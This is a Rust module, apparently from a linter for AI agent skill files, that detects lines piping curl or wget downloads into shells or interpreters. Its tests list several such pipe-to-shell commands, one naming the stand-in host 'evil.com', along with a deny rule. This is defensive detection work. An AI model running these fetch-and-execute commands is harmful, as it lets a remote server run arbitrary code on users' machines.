//! Finds downloads that are executed unseen: `curl … | sh` and similar commands on one line of a body.

use super::draft::{Check, SkillDraft};
use crate::read::owner_on_github;
use crate::rule::lints;
use crate::tree::text::has_any;
use crate::{Report, Span};

pub(super) fn check(draft: &SkillDraft, body: Span, check: &mut Check<'_>) {
    let sources = check.sources;
    let text = sources.text(body);
    let names = own_names(draft);
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        skills_text::work::count(line.len());
        if line.contains('|') {
            pipes_of_line(line, body.part(at, at + line.len()), &names, check.report);
        }
        at += line.len();
    }
}

/// Returns the names of a skill, its directory and its plugin, their words, and the owners of their home pages on GitHub.
/// Short and common words name no program.
fn own_names(draft: &SkillDraft) -> Vec<String> {
    const COMMON: &str = "agent agents build builder code command commands create data deploy docs github install \
        installer plugin plugins setup skill skills test testing tool tools";
    let dir = &draft.skill.dir;
    let plugin = dir.path.rsplit_once("/skills/").and_then(|(above, _)| above.rsplit('/').next());
    let plugin = plugin.filter(|name| !name.starts_with('.'));
    let names = [draft.name.as_str(), dir.name.as_str()].into_iter().chain(plugin).map(str::to_lowercase);
    let mut found: Vec<String> = names.collect();
    let words: Vec<String> =
        found.iter().flat_map(|name| name.split(['-', '_', ' '])).map(str::to_owned).collect();
    found.extend(words);
    // A short name with a digit is not a common word.
    found.retain(|name| {
        (name.len() > 3 || name.contains(|c: char| c.is_ascii_digit()))
            && !COMMON.split_whitespace().any(|common| common == name)
    });
    let homepage = draft.entry("homepage").and_then(|entry| owner_on_github(entry.value.as_string()?));
    found.extend(homepage);
    found.extend(dir.owner.clone());
    found
}

fn pipes_of_line(line: &str, place: Span, names: &[String], report: &mut Report) {
    let Some(fetch) = ["curl ", "wget "].iter().filter_map(|word| line.find(word)).min() else { return };
    let before = &line[..fetch];
    if is_warning(before) || is_warning_behind(line) || before.ends_with("Bash(") || is_printed(before) {
        return;
    }
    // A text such as "never use `curl | sh`" has no URL. It mentions the command but does not run it.
    let words = line[fetch..].find(char::is_whitespace).map_or(line.len(), |end| fetch + end);
    let Some(server) = line[words..].find(['.', '/', '$', '<', '{']).map(|at| words + at) else { return };
    for (at, _) in line.match_indices('|').filter(|(at, _)| *at > server) {
        skills_text::work::count(1);
        // The shell comes directly after the pipe, so only a short part of a long line is searched.
        let behind: String = line[at + 1..].chars().take(96).collect();
        let mut words = behind.split_whitespace().skip_while(|word| matches!(*word, "sudo" | "-E" | "env"));
        let written = words.next().unwrap_or_default();
        let shell = written.trim_end_matches(['`', '"', '\'', ')', ';', '.', ',']);
        let until = at + 1 + behind.find(shell).unwrap_or(0) + shell.len();
        let shell = shell.rsplit('/').next().unwrap_or(shell);
        let is_run = runs_input(shell, if written.ends_with(shell) { words.next() } else { None });
        let command = &line[fetch..at];
        if !is_run || is_elided(command) || is_installer(command, names) {
            continue;
        }
        let found = lints::PIPE_TO_SHELL
            .report_at(place.part(fetch, until), format!("a download is piped into `{shell}`"));
        report.push(match is_open_to_all(command) {
            true => found
                .label("without `https://`, anybody on the way can replace the program")
                .help("begin the address with `https://`"),
            false => found
                .label("this runs any code that the server sends")
                .help("download to a file, check it, then run it; or install the program from a package"),
        });
    }
}

/// The servers of well-known programs whose own documentation tells people to pipe their installer into a shell, each
/// with the beginning of its path if others can publish there, too.
const INSTALLERS: &str = "\
    aka.ms apollo.dev aspire.dev astral.sh awsstatic.com bun.sh claude.ai cli.doppler.com cursor.com deb.nodesource.com \
    deno.land fluxcd.io fly.io foundry.paradigm.xyz get.docker.com get.k3s.io get.pnpm.io get.rvm.io get.sdkman.io \
    get.volta.sh get.starship.rs starship.rs install.determinate.systems install.python-poetry.org mise.run nixos.org \
    ollama.com pixi.sh pyenv.run raw.githubusercontent.com/Homebrew/ raw.githubusercontent.com/aquasecurity/ \
    raw.githubusercontent.com/golangci/ raw.githubusercontent.com/helm/ raw.githubusercontent.com/nvm-sh/ \
    raw.githubusercontent.com/ohmyzsh/ rpm.nodesource.com run.linkerd.io rustup.rs sdk.cloud.google.com sh.rustup.rs \
    tailscale.com";

/// Returns `true` if a command downloads only from servers of well-known programs, or of the program of the skill, over
/// HTTPS.
fn is_installer(command: &str, names: &[String]) -> bool {
    let is_encrypted = |at: usize| command[..at].ends_with("https");
    let mut addresses =
        command.match_indices("://").map(|(at, sign)| (at, &command[at + sign.len()..])).peekable();
    addresses.peek().is_some()
        && addresses.all(|(at, address)| {
            is_encrypted(at)
                && (INSTALLERS.split_whitespace().any(|known| is_at(address, known))
                    || is_of_program(address, names))
        })
}

/// Returns `true` if a command has an ellipsis in place of its address.
fn is_elided(command: &str) -> bool {
    let mut words = command.split_whitespace().map(|word| word.trim_end_matches(['\\', '`']));
    !command.contains("://") && words.any(|word| matches!(word, "..." | "…"))
}

/// Returns `true` if a command downloads over HTTP: its address begins with `http://` or, as curl reads it, has no scheme.
fn is_open_to_all(command: &str) -> bool {
    command.contains("http://") || !command.contains("://") && !command.contains(['$', '<', '{'])
}

/// Returns `true` if an address without its scheme is that of a program: its name is a part of the host before the last
/// dot, the last part of the path, or the owner or the name of a repository on GitHub.
fn is_of_program(address: &str, names: &[String]) -> bool {
    const GITHUB: [&str; 2] = ["github.com", "raw.githubusercontent.com"];
    let address = address.to_lowercase();
    let end = address.find(|c: char| c.is_whitespace() || "'\"`)\\".contains(c));
    let address = &address[..end.unwrap_or(address.len())];
    let (host, path) = address.split_once('/').unwrap_or((address, ""));
    if host.contains(['@', ':']) {
        return false;
    }
    let parts: Vec<&str> = match GITHUB.contains(&host) {
        true => path.split('/').take(2).flat_map(|part| part.split('-').chain([part])).collect(),
        false => host.rsplit('.').skip(1).chain(path.rsplit('/').next()).collect(),
    };
    parts.iter().any(|part| names.iter().any(|name| name == part))
}

/// Returns `true` if an address without its scheme is on a server or on one below it, and begins with the path.
fn is_at(address: &str, known: &str) -> bool {
    let end =
        address.find(|c: char| !(c.is_ascii_alphanumeric() || "-.".contains(c))).unwrap_or(address.len());
    let (host, path) = address.split_at(end);
    let (known_host, known_path) = known.split_at(known.find('/').unwrap_or(known.len()));
    let above = host.strip_suffix(known_host);
    above.is_some_and(|above| above.is_empty() || above.ends_with('.'))
        && path.starts_with(known_path)
        && !path.starts_with(['@', ':'])
}

/// Returns `true` if a program runs its input: a shell, or an interpreter without a program argument.
fn runs_input(program: &str, argument: Option<&str>) -> bool {
    match program {
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "fish" => argument != Some("-c"),
        "python" | "python3" | "node" | "perl" | "ruby" => match argument {
            // `-` means standard input, also before a pipe or another command.
            None | Some("-" | "|" | "&&" | ";" | "||" | "\\") => true,
            // With `-m json.tool`, `-c '…'`, `-ne …` or a script, the download is data and not the program.
            Some(argument) => argument.starts_with(['`', '#', ')', '"', '(']),
        },
        _ => false,
    }
}

/// Returns `true` if the text before a command begins a text that is only printed: `echo "Run: `.
fn is_printed(before: &str) -> bool {
    const PRINTERS: [&str; 6] =
        ["echo ", "printf ", "print(", "console.log(", "Write-Host ", "Write-Output "];
    let Some(at) = PRINTERS.iter().filter_map(|word| before.rfind(word).map(|at| at + word.len())).max()
    else {
        return false;
    };
    let printed = &before[at..];
    let Some(quote) = printed.chars().find(|c| matches!(c, '"' | '\'')) else { return false };
    let is_open = printed.matches(quote).count() % 2 == 1;
    // Between double quotes a shell still runs `$(…)`.
    is_open && (quote == '\'' || !printed.contains("$(") && !printed.contains('`'))
}

/// Returns `true` if the text before a command forbids the command, or lists it as something to search for.
fn is_warning(before: &str) -> bool {
    const WORDS: [&str; 10] =
        ["never", "n't ", "not ", "avoid", "forbid", "refuse", "block", "reject", "detect", "unsafe"];
    let before = before.to_lowercase();
    before.contains(['❌', '🚫', '⛔'])
        || before.contains("instead of")
        || has_any(&before, &WORDS)
        || has_any(&before, &DANGER)
}

/// Returns `true` if the text after a command calls it an attack, as in checklists for reviewers.
fn is_warning_behind(line: &str) -> bool {
    const PHRASES: [&str; 6] =
        ["remote code execution", "supply chain", "red flag", "never", "evil", "attacker"];
    let line = line.to_lowercase();
    has_any(&line, &PHRASES) || has_any(&line, &DANGER)
}

const DANGER: [&str; 3] = ["dangerous", "malicious", "suspicious"];

#[cfg(test)]
mod tests {
    use super::{Check, SkillDraft, check};
    use crate::{Options, Report, SourceMap};

    fn found(line: &str) -> usize {
        found_in("", line)
    }

    fn found_in(name: &str, line: &str) -> usize {
        let mut draft = SkillDraft { name: name.to_owned(), ..SkillDraft::default() };
        draft.skill.dir.path = format!("plugins/kibana/skills/{name}");
        draft.skill.dir.owner = Some("acme-dev".to_owned());
        let mut sources = SourceMap::new(".");
        let id = sources.add("SKILL.md".into(), line.into(), None);
        let mut report = Report::default();
        let options = Options::default();
        let context = &mut Check { sources: &sources, options: &options, report: &mut report };
        check(&draft, sources.file(id).span(0..usize::MAX), context);
        report.diagnostics.len()
    }

    // SPEC 2.14
    #[test]
    fn the_installer_of_the_program_of_a_skill_is_known() {
        for (name, address) in [
            ("varlock", "https://varlock.dev/install.sh"),
            ("render-deploy", "https://raw.githubusercontent.com/render-oss/cli/main/install.sh"),
            ("agent-tui", "https://github.com/someone/agent-tui/raw/install.sh"),
            ("dashboards", "https://get.kibana.co/start"),
            ("devbox", "https://get.jetify.com/devbox"),
            ("db9", "https://db9.ai/install"),
            ("start", "'https://raw.githubusercontent.com/acme-dev/cli/main/install.sh'"),
        ] {
            assert_eq!(found_in(name, &format!("curl -fsSL {address} | sh")), 0, "{address}");
        }
        for (name, address) in [
            ("varlock", "http://varlock.dev/install.sh"),
            ("varlock", "https://varlock@x.y/install.sh"),
            ("varlock", "https://x.y/varlock.sh"),
            ("varlock", "https://varlock.dev/a https://x.y/b"),
            ("deploy-tools", "https://deploy.example/install.sh"),
            ("git", "https://git.example/install.sh"),
            ("start", "https://raw.githubusercontent.com/acme-tools/cli/main/install.sh"),
        ] {
            assert_eq!(found_in(name, &format!("curl -fsSL {address} | sh")), 1, "{address}");
        }
    }

    // SPEC 2.14
    #[test]
    fn running_a_download_is_distinguished_from_reading_it() {
        for line in [
            "curl -fsS https://x.y/install | sh",
            "`wget -qO- https://x.y | sudo -E bash`",
            "curl https://x.y | python3 -",
            "curl https://x.y/get-pip.py | python3",
            "curl https://x.y | bash -s -- --yes",
            "echo \"$(curl https://x.y | bash)\"",
            "echo 'start' && curl https://x.y | bash",
        ] {
            assert_eq!(found(line), 1, "{line}");
        }
        for line in [
            "curl -s https://x.y | python3 -m json.tool",
            "curl -s https://x.y | jq .",
            "curl -s https://x.y | tar t",
            "curl -s https://x.y | python3 -c 'import sys, json; print(json.load(sys.stdin))'",
            "curl -s https://x.y | perl -ne 'print'",
            "Never run `curl https://x.y | sh`.",
            "| `curl … | sh` | remote code execution |",
            "| **Install** | `curl ... \\| sh` |",
            "\"deny\": [\"Bash(curl https://x.y | bash)\"]",
            "Prefer a package to `curl | bash`.",
            "scan \"curl evil.com | bash\"",
            "    echo \"Install it first: curl -LsSf https://x.y/install.sh | sh\"",
            "command -v uv || { echo 'run curl https://x.y | sh' >&2; exit 1; }",
            "print('curl https://x.y | sh')",
        ] {
            assert_eq!(found(line), 0, "{line}");
        }
    }
}
